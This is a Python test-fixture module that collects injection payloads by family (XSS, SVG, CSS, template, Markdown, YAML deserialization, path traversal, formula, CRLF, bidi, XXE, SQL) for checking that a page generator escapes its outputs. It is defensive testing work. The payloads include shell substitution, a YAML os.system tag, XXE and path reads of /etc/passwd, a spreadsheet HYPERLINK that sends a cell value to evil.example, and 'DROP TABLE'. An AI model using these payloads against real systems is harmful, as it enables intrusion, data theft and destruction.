"""What an attacker would write, by family: each text is put into every input and looked for in every output.

Nothing in it does harm here: scripts would call `alert`, files and addresses are those of `evil.example`, which is
nobody's (RFC 2606).
"""

from dataclasses import dataclass

_EVIL = "//evil.example/x"

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>",
        "<ScRiPt >alert(1)</sCrIpT >",
        f"<script src={_EVIL}.js></script>",
        "</title><script>alert(1)</script>",
        "</textarea></style></noscript></template><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "</script><script>alert`1`</script>",
        '<iframe srcdoc="<script>alert(1)</script>">',
        f"<object data={_EVIL}><embed src={_EVIL}>",
        f"<base href={_EVIL}>",
        f'<meta http-equiv=refresh content="0;url={_EVIL}">',
        f"<link rel=stylesheet href={_EVIL}.css>",
        f"<form action={_EVIL}><button>ก</button></form>",
        "<plaintext>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp; &notanentity;",
        r"\u003cscript\u003ealert(1)\u003c/script\u003e \x3cb\x3e",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    "attribute": (
        '" onmouseover=alert(1) x="',
        "' autofocus onfocus=alert(1) x='",
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        "` onload=alert(1) `",
        '"/onload=alert(1)//',
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<img src=x:alert(1) onerror=eval(src)>",
        '" formaction=javascript:alert(1) accesskey=x "',
    ),
    "URL scheme": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//",
        "java\tscript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "//evil.example/",
        "https://evil.example/?a=1&b=<i>#c",
        "/\\evil.example",
        "file:///etc/passwd",
        "mailto:?bcc=all",
    ),
    "SVG": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)>",
        '<svg><a xlink:href="javascript:alert(1)"><text y=20>ก</text></a></svg>',
        '<svg><image href="https://evil.example/x.png"/></svg>',
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    ),
    "CSS": (
        "</style><style>@import '//evil.example/x.css'</style>",
        '" style="background:url(//evil.example/x)',
        "<style>*{background:url(https://evil.example/x)}</style>",
        "<div style='position:fixed;inset:0;background:red'>",
        ";}*{display:none}/*",
        r"\3c script\3e expression(alert(1))",
    ),
    "template": (
        "{{ 7*7 }} {% raw %} {# ก #}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        '{% include "/etc/passwd" %}{{ config }}',
        '{{ "<b>"|safe }}{% endblock %}',
        "${7*7} #{7*7} <%= 7*7 %> {{{ก}}} {{> ก}} {{#ก}}",
        "{{constructor.constructor('alert(1)')()}}",
        "{title} {n:,} {0.__class__} {} }{ %(title)s %s%n",
        r"$& $1 $` $' \1 \g<0>",
        "<b data-pagefind-ignore=all data-pagefind-meta='title:ก'>",
        "[[ 7*7 ]] <?= 7*7 ?> @(7*7) *{7*7}",
    ),
    "Markdown": (
        "[ก](javascript:alert(1)) [ข](<JavaScript:alert(1)>)",
        "![ก](https://evil.example/x.png)",
        "![ก](//evil.example/x.png 'onerror=alert(1)')",
        "[ก][ข]\n\n[ข]: javascript:alert(1)",
        "<javascript:alert(1)> <https://evil.example/>",
        '[ก](data:text/html,<script>alert(1)</script> "onmouseover=alert(1)")',
        "**ก** _ข_ `ค` ~~ง~~ # จ\n> ฉ\n\n```html\n<script>alert(1)</script>\n```",
        "<!-- ก -->\n<div onclick=alert(1)>",
        "| ก | ข |\n|:--|--:|\n| <b> | [x](javascript:alert(1)) |",
        ">" * 200 + " ก",
        "[" * 500 + "ก",
        "- - -\n1. 1. 1.\n* # > | ```",
    ),
    "YAML": (
        '!!python/object/apply:os.system ["touch evil"]',
        "!!python/name:os.system",
        "&a [*a, *a]",
        "<<: *ก",
        "? ก\n: ข",
        "--- ก\n...\n--- ข",
        "%YAML 9.9",
        "ก: ข # ค",
        "'ก",
        '"ก',
        "| ก",
        "> ก",
        "{ก: [ข, ค}",
        "null",
        "~",
        "no",
        "1e3",
        "0x10",
        "2568-13-01",
        "@ก `ข`",
    ),
    "path": (
        "../../../etc/passwd",
        "..\\..\\ก",
        "/etc/passwd",
        "C:\\ก",
        "%2e%2e%2fก",
        "....//ก",
        "index.html",
        ".htaccess",
        "_worker.js",
        "~/.ssh/id_rsa",
        "$(touch evil) `touch evil` ; touch evil | touch evil",
        "--output=evil",
        "con",
    ),
    "formula": (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/?"&A1,"ก")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＠SUM(1+1)",
        'ก","=1+1',
        "ก;=1+1",
        "'=1+1",
    ),
    "line ends": (
        "ก\r\nSet-Cookie: evil=1",
        "ก\r\n\r\n<script>alert(1)</script>",
        "ก\rข",
        "ก\u2028ข\u2029ค",
        "ก\x85ข",
        "ก\x0bข\x0cค",
        "ก\n::error file=site.yaml::evil",
        "ก\n/*\n  X-Evil: 1",
        "ก\nDisallow: /\nSitemap: https://evil.example/",
        "ก\n0000000000000000000000000000000000000000000000000000000000000000  index.html",
    ),
    "control": (
        "ก\0ข",
        "<scr\0ipt>alert(1)</script>",
        "ก\x01\x02\x1fข",
        "\x1b[2J\x1b]0;evil\x07ก",
        "ก\x08\x08ข",
        "ก\x7f\x9bข",
        "ก\ufffe\uffffข",
        "\ufeffก",
        "ก\ue000\U000e0041ข",
        "ก\u200bข\u200c\u00ad",
        "ก" + "\u0e49\u0e34" * 300,
        "_x0041_ _x000D_",
    ),
    "bidi": (
        "\u202eกขค\u202c",
        "ก\u202e gnp.exe",
        "\u2066ก\u2069\u2067ข",
        "ก\u2069\u202eข",
    ),
    "breaker": (
        'ก" . <x> <y> <z> .',
        '""" . @prefix : <x> . """',
        r"\ \" \u0022 \U00000022",
        "ก\n.\n@prefix evil: <https://evil.example/> .",
        '"@th ^^<http://www.w3.org/2001/XMLSchema#integer>',
        '"}],"@context":"https://evil.example/",[{"',
        "]]> <![CDATA[ <!-- -->",
        '<!DOCTYPE ก [<!ENTITY ข SYSTEM "file:///etc/passwd">]><ก>&ข;',
        '<?xml-stylesheet href="https://evil.example/x.xsl"?>',
        '<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
        "</title></entry></feed></url></urlset>",
        "<!--<script>",
        "}, author={evil}, x={ \\input{/etc/passwd} @misc{ก",
    ),
    "SQL": (
        "' OR 1=1 --",
        "'; DROP TABLE projects; --",
        '" OR ""="',
        "%' UNION SELECT sql FROM sqlite_master --",
        "NEAR(ก ข, 5) AND title:* NOT ^ข",
        '"ก',
        "*",
        "((( OR",
        "{title agency}: ก",
        "x' || (SELECT 1) || '",
    ),
}


@dataclass(frozen=True, slots=True)
class Attack:
    """One text of the dictionary; `name` is its family and place in it."""

    family: str
    number: int
    text: str

    def __str__(self) -> str:
        return f"{self.family} {self.number}"


ATTACKS = tuple(Attack(family, at, text) for family, texts in FAMILIES.items() for at, text in enumerate(texts, 1))

# Ordinary texts, in all forms that pages tell apart: what their pages are made of, hostile pages may be made of too.
HARMLESS = tuple(
    Attack("harmless", at, text)
    for at, text in enumerate(
        (
            "ข้อความธรรมดา",
            "Plain words",
            "- ข้อหนึ่ง\n- ข้อสอง",
            "1. หนึ่ง\n2. สอง\nท้าย",
            "7) seven\n8) แปด",
            "- one\n- two\nthree",
            '“อ้าง” "quoted" 12 ๆ ที่ 30/9/2563 5 ล้านบาท',
        ),
        1,
    )
)


def one_of_each_family() -> tuple[Attack, ...]:
    """Return the first attack of each family."""
    return tuple(attack for attack in ATTACKS if attack.number == 1)
